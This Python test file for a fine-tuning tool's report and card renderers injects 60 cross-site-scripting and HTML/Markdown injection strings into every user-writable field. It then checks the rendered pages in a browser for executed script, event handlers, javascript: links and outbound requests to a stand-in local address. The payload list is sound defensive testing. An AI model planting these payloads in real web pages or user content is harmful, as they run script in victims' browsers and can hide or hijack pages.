"""Texts that want to be more than texts, planted in every place of every page that an outsider can write to: figure S3.

A case is one text of `PAYLOADS`. It becomes the name, the label, the answer, the licence, the column, the setting of
runs of all four tasks and of data sets, and their pages are opened in a browser: reports, comparisons and data cards
as they are, model cards as two renderers of Markdown, both told to let HTML through, make pages of them.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
from collections.abc import Iterator, Sequence
from dataclasses import asdict
from pathlib import Path
from typing import Any

import mistune
import numpy as np
from browser import CANARY, CHROMIUM, MISSING, Browser
from markdown_it import MarkdownIt

from llmft_nb.comparison import weigh_runs
from llmft_nb.comparison_page import render_comparison
from llmft_nb.core import RunRecord
from llmft_nb.data_card import data_card
from llmft_nb.hparams import TrainSettings
from llmft_nb.pages import visible
from llmft_nb.rejects import Rejects
from llmft_nb.report import render_card, render_report
from llmft_nb.scored_runs import STATISTICS, ScoredRun, check_comparable
from llmft_nb.scores import compare_with, score_share
from llmft_nb.splits import Survey, survey_rows
from llmft_nb.tasks import make_task

RUN = f"{CANARY}(1)"
AWAY = "http://127.0.0.1:9"
TASKS = ("classify", "tag", "instruct", "text")

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></pre></code><script>{RUN}</script>",
    f"--></bdi></td></table><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<script src={AWAY}/a.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>import '{AWAY}/m.js'</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={AWAY}/pixel.png srcset='{AWAY}/2.png 2x'>",
    f"<img src=x onerror={RUN}//",
    f'<svg onload="{RUN}"><circle r=9 /></svg>',
    f'"><svg/onload={RUN}>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>press</text></a></svg>",
    f"<svg><use href='{AWAY}/s.svg#a' /><image href={AWAY}/i.png /></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><style>@import '{AWAY}/a.css';</style><script>{RUN}</script></svg>",
    f"' autofocus onfocus={RUN} x='",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0;z-index:9',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<marquee onstart={RUN}>go</marquee>",
    f"<video autoplay onerror={RUN}><source src=x></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<a href=javascript:{RUN} id=pwned>press</a>",
    f"<a href='{AWAY}/away' target=_blank ping={AWAY}/ping>press</a>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe><iframe src={AWAY}/f></iframe>",
    f"<object data={AWAY}/o></object><embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/a.css><link rel=prefetch href={AWAY}/p>",
    f"<style>@import url({AWAY}/b.css); body {{ display: none }}</style>",
    "</style><style>main { visibility: hidden } * { color: transparent !important }</style>",
    f"<p style='background:url({AWAY}/bg.png)'>p</p>",
    f"<form action={AWAY}/form><button id=pwned>go</button></form><base href={AWAY}/>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/away'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template><p><template shadowrootmode=open>{RUN}</template></p>",
    f"<!--<p id=pwned>--><p id=pwned><![CDATA[<script>{RUN}</script>]]>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;script&#x3e;{RUN}&#60;/script&#62;",
    f"＜script＞{RUN}＜/script＞ \ufeff<\x00script>{RUN}</script>",
    "{{ 7 * 7 }}{% for x in range(9) %}pwned{% endfor %}{# #}${7*7}<%= 7 %>",
    f"[press](javascript:{RUN}) ![x]({AWAY}/p.png) <{AWAY}/auto> {AWAY}/bare www.pwned.io me@pwned.io",
    f"[press]( javascript:{RUN} 'title') [a]: {AWAY}/ [b][a] ![c][a]",
    f"| broken | table |\n| --- | --- |\n\n# heading\n\n```\n<script>{RUN}</script>",
    f"a\n\n[ref]: javascript:{RUN} 'title'\n\n[ref] $$\\href{{javascript:{RUN}}}{{x}}$$ \\(x\\)",
    "---\nlicense: mit\n---\n# other card\n\n- [x] done\n\n> quote\n\n1. one",
    f"`x` ~~~ **b** __i__ ~~s~~ ==m== ^u^ [^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"    code\n\n<div>\n\n**b** <img src=x onerror={RUN}>\n\n</div>",
    f"*[HTML]: x\n\n:smile: @someone #1 {AWAY} <{AWAY}> <javascript:{RUN}>",
    "answer \u202efas\u2066evil\u2069 \x00\x1b[31m\x7f \u2028 end \U000e0041\U000e0042",
    f"\\<script\\>{RUN}\\</script\\> \\[a\\](javascript:{RUN}) <a&#x09;href='jav&#x0A;ascript:{RUN}'>",
    f"'); {RUN}; //\"; {RUN}; //`${{{RUN}}}`",
]
assert len(set(PAYLOADS)) == 60

# Elements that no page of ours has; `a` is one of them: nothing on these pages leads anywhere
FORBIDDEN = (
    "script,img,iframe,frame,object,embed,applet,a[href],area,form,input,button,select,textarea,video,audio,source"
)
FORBIDDEN += ",math,marquee,details,template,portal,foreignObject,animate,set,image,noscript,base,#pwned,dialog,blink"
LOOK = """(() => {
  const told = [];
  for (const one of document.querySelectorAll(%s)) told.push(one.outerHTML.slice(0, 200));
  const styles = document.querySelectorAll("style:not(svg style)"), metas = document.querySelectorAll("meta"),
        links = document.querySelectorAll("link");
  if (styles.length !== %d || metas.length !== %d || links.length !== %d)
    told.push(`${styles.length} styles, ${metas.length} metas, ${links.length} links`);
  for (const one of document.querySelectorAll("svg style"))
    if (!/^\\*\\{stroke-linejoin: round; stroke-linecap: butt\\}$/.test(one.textContent.trim()))
      told.push(one.outerHTML);
  for (const one of document.querySelectorAll("*"))
    for (const {name, value} of one.attributes) {
      if (name.startsWith("on")) told.push(`${one.tagName} ${name}`);
      if (/^\\s*(javascript|vbscript|data:text)/i.test(value) || (/^(href|src|action|srcset|data|ping)$/.test(name)
          && !(one.tagName === "LINK" && value === "data:,") && !value.startsWith("#")))
        told.push(`${one.tagName} ${name}=${value}`);
      if (name === "style" && /url|expression|position|inset/i.test(value)) told.push(`style ${value}`);
      if (/^xlink:href$/.test(name) && !value.startsWith("#")) told.push(`${one.tagName} ${name}=${value}`);
    }
  const seen = getComputedStyle(document.body);
  if (seen.display === "none" || seen.visibility !== "visible") told.push("the page is hidden");
  for (const one of document.querySelectorAll("main *, body > *"))
    for (const kind of ["mouseover", "mouseenter", "focus", "click", "toggle", "animationstart", "load", "error"])
      one.dispatchEvent(new Event(kind, {bubbles: true}));
  return told;
})()"""


def make_run(task: str, texts: Sequence[str]) -> dict[str, Any]:
    "A run in which every word that somebody else could have chosen is one of some texts, mostly the first."
    text = texts[0]
    right, other = np.arange(60) % 4 > 0, np.arange(60) % 3 > 0
    paired = compare_with(right, {"other": other})[0].as_record()
    headline = {"classify": "accuracy", "tag": "span_f1", "instruct": "token_f1", "text": "perplexity"}[task]
    score = asdict(score_share(45, 60))
    lines = [{**paired, "name": one, "verdict": one, headline: score} for one in texts]
    test: dict[str, Any] = {"headline": headline, headline: score, "macro_f1": 0.7, "baselines": lines}
    test |= {"clean": {headline: score}, "harm": {"true": text, "predicted": text, **score}}
    test |= {"by_label": {one: {"f1": 0.5, "n": 9} for one in texts}}
    counts = {one: 3 + i for i, one in enumerate(texts)}
    facts = {"labels": {"train": counts, text: counts}, "n_counted": {"train": 5, text: 5}}
    bars = {"n": 9, "median": 3, "p95": 5, "longest": 8, "bars": [1, 8]}
    facts |= {"lengths": {"unit": text, "edges": [0, 5, 10], "sets": dict.fromkeys(texts[:4], bars)}}
    checks = [{"name": one, "status": text, "words": one, "mend": one} for one in texts]
    checks += [{"name": name, "status": "warning", "words": text, "mend": text} for name in ("copies", "leaks")]
    said = {"text": text, "before": text, "after": {"label": text, "probability": 0.9}, "expected": text}
    record = RunRecord(
        task=task,
        status=text,
        model={"name": text, "kind": "hub", "revision": text, "licence": text, "sha256": text, "strategy": text}
        | {"moved": {"whole": [{"name": text, "n_moved": 1, "n_weights": 2, "change": 0.1}]}, "architecture": text},
        data={"sources": {"train": text, "valid": text, "test": text}, "hub_id": text, "language": text}
        | {"licence": text, "n_train": 100, "n_valid": 10, "label_names": list(texts), "left_out": {text: text}}
        | {"notice": text, "columns": {text: text}, "tokens": text, "facts": facts},
        settings={"lr": 1e-3, "prompt_template": text, "system": text, **dict.fromkeys(texts, text)},
        origins={"lr": text, **dict.fromkeys(texts, text)},
        fingerprint={text: text},
        scores={"validation": {headline: 0.8, "step": text, "n": 30}, "test": test, "question": said}
        | {"forgetting": {"words": text}},
        seconds=dict.fromkeys(texts, 1.5),
        environment={"python": text, "device": text, "command": f"llmft train {text}", **dict.fromkeys(texts, text)},
        test_looks=2,
        notes=list(texts),
        checks=checks,
    )
    answers = [
        {"text": one, "text_pair": one, "label": label, "predicted": answer, "probability": (50 + i % 50) / 100}
        for i, one in enumerate(texts)
        for label, answer in ((one, text), (text, f"not {one}"), (one, one))
    ]
    metrics: list[dict[str, Any]] = [{"step": step, "loss": 2.0 / step, "note": text} for step in range(1, 9)]
    metrics += [{"step": 8, f"valid_{headline}": 0.8, "valid_loss": 0.6}]
    return {"name": text, "record": copy.deepcopy(asdict(record)), "metrics": metrics, "predictions": answers}


def make_compared(task: str, texts: Sequence[str]) -> list[ScoredRun]:
    "Runs on the same rows, two seeds of one far ahead of another (not in instruct), of names that no folder can have."
    rows, runs = tuple(f"{i:02}" for i in range(60)), []
    for k, (name, seed) in enumerate(((texts[0], 0), (texts[0], 1), (texts[-1], 0))):
        record = make_run(task, texts if k == 2 else texts[:1])["record"]
        record |= {"status": "finished", "lineage": {"rows_sha256": f"{texts[0]}{k // 2}", "repeats": texts[0]}}
        record["settings"] |= {"seed": seed, "strategy": f"{texts[0]}{k // 2}"}
        record["model"] |= {"n_trainable": 1000, "sha256": f"{texts[0]}{k // 2}"}
        record["scores"]["forgetting"] = {"words": texts[0], "ratio": {"value": 1.2, "low": 1.1, "high": 1.3}}
        for line in record["scores"]["test"]["baselines"][:1]:
            line["name"] = "untuned base"
        right = (np.arange(60)[:, None] + k) % 10 < (9 if k < 2 or task == "instruct" else 3)
        wrong = np.ones((60, 1)) - right
        columns = {"tag": [right, wrong, wrong], "text": [1.0 + 9.0 * wrong, np.full((60, 1), 4)]}
        table = np.hstack(columns.get(task, [right])).astype(np.float64)
        headline = record["scores"]["test"]["headline"]
        value = STATISTICS[headline].of_means(table.mean(axis=0))
        record["scores"]["test"][headline]["value"] = float(np.exp(value) if task == "text" else value)
        untuned = table[::-1].copy() if k < 2 else None
        runs.append(ScoredRun(Path(f"{k}"), name, record, rows, rows, table, untuned))
    check_comparable(runs)
    return runs


def rows_with(task: str, texts: Sequence[str], ending: str) -> list[dict[str, Any]]:
    "Rows of a task with the texts in them, some of which repeat, contradict and leak."
    if task == "classify":
        labels = [re.sub(r"[\x00-\x1f]", " ", one) for one in texts]
        rows = [{"text": f"{one} {ending}", "label": label} for one, label in zip(texts, labels, strict=True)]
        return rows + [{"text": f"{texts[0]} {ending}", "label": "b"}, {"text": "plain", "label": "b"}] * 2
    if task == "tag":
        kinds = [re.sub(r"\s+", "_", re.sub(r"[\x00-\x20\x7f\u2028]", " ", one).strip()) for one in texts]
        return [
            {"tokens": [one, "and", f"{one}{ending}"], "ner_tags": [f"B-{kind}", "O", "O"]}
            for one, kind in zip(texts, kinds, strict=True)
        ] * 2
    said = [{"prompt": f"{one} {ending}", "completion": one} for one in texts]
    return said + [{"prompt": f"{texts[0]} {ending}", "completion": "b"}] * 2


def renamed(survey: Survey, text: str) -> Survey:
    "The same rows, from files of another name."
    (held,) = survey.held_out.values()
    leaks = [dataclasses.replace(one, split=text) for one in survey.report.leaks]
    report = dataclasses.replace(survey.report, leaks=leaks, n_held_out={text: len(held)})
    train = copy.copy(survey.train)
    object.__setattr__(train, "source", text)
    findings = {**survey.findings, text: text}
    return dataclasses.replace(survey, report=report, held_out={text: held}, train=train, findings=findings)


def make_cards(task: str, texts: Sequence[str]) -> Iterator[tuple[str, str]]:
    "A data card with the texts in its rows, by a name that ends in .html or .md."
    clean = [one.replace("\x00", "") for one in texts]  # Which no row may have
    train = [*rows_with(task, clean, "one"), {"text": clean[0], "label": "", "prompt": clean[0], "tokens": clean[:1]}]
    held = rows_with(task, clean, "one")[:3] + rows_with(task, clean, "two")
    rules = make_task(task, TrainSettings()).rows
    survey = renamed(survey_rows([train, held], task=rules, name=task, rejects=Rejects()), clean[0])
    assert survey.report.leaks and survey.report.copies and survey.rejects, task
    for kind in ("html", "md"):
        yield f"{task}-card.{kind}", data_card(survey, markdown=kind == "md")


def as_page(markdown: str, renderer: str) -> str:
    "What a site makes of Markdown, HTML let through."
    body = markdown.split("\n---\n", 1)[1] if markdown.startswith("---\n") else markdown
    if renderer == "commonmark":
        html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(body)
    else:
        plugins = ["url", "table", "strikethrough", "footnotes", "task_lists", "math", "def_list", "abbr", "mark"]
        html = str(mistune.create_markdown(escape=False, plugins=plugins)(body))
    return f"<!doctype html><meta charset=utf-8><title>card</title><main>{html}</main>"


def all_pages(texts: Sequence[str], tasks: Sequence[str] = TASKS) -> Iterator[tuple[str, str]]:
    "Every page by its name."
    markdown: dict[str, str] = {}
    for task in tasks:
        run = make_run(task, texts)
        yield f"{task}-report.html", render_report(run)
        yield f"{task}-comparison.html", render_comparison(weigh_runs(make_compared(task, texts)))
        markdown[f"{task}-model-card"] = render_card(run)
        for name, page in make_cards(task, texts) if task != "text" else ():
            if name.endswith(".html"):
                yield name, page
            else:
                markdown[name.removesuffix(".md")] = page
    for name, source in markdown.items():
        for renderer in ("commonmark", "mistune"):
            yield f"{name}-{renderer}.md.html", as_page(source, renderer)


def squeezed(text: str) -> str:
    return re.sub(r"\s+", " ", text).strip()


def as_shown(text: str) -> tuple[str, str]:
    "The beginning of a text as a page shows it, and as it does where rows may not have a NUL."
    return visible(text, 60).removesuffix("…"), visible(text.replace("\x00", ""), 60).removesuffix("…")


def faults_of(browser: Browser, file: Path, texts: Sequence[str]) -> list[str]:
    "What a page does or has that it should not; and texts that cannot be read on it."
    browser.open(file)
    n = (0, 1, 0) if file.name.endswith(".md.html") else (1, 6 if "comparison" in file.name else 5, 1)
    wrong = [*browser.run(LOOK % (json.dumps(FORBIDDEN), *n)), *browser.complaints()]
    browser.run("new Promise(done => setTimeout(done, 50))")
    wrong += browser.complaints()
    wrong += [f"asked for {address}" for address in browser.addresses() if address != file.as_uri()]
    shown = squeezed(browser.run("document.body.innerText"))
    expected = texts[:1] if "-card" in file.name and "model" not in file.name else texts
    wrong += [f"not shown: {text}" for text in expected if not any(squeezed(one) in shown for one in as_shown(text))]
    return list(dict.fromkeys(f"{file.name}: {fault}" for fault in wrong))


POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


def check_payloads(texts: Sequence[str], folder: Path, tasks: Sequence[str] = TASKS) -> str:
    "Have every page made of some texts, and opened, with its policy and without; what is wrong, or ''."
    if CHROMIUM is None:
        return MISSING
    found: list[str] = []
    with Browser(folder / "profile") as browser:
        for name, page in all_pages(texts, tasks):
            for kind, source in {"": page, "open-": POLICY.sub("<meta name=open>", page)}.items():
                file = folder / f"{kind}{name}"
                file.write_text(source, encoding="utf-8", errors="replace")
                found += faults_of(browser, file, texts) if not kind or source != page else []
    return "; ".join(found)[:4000]
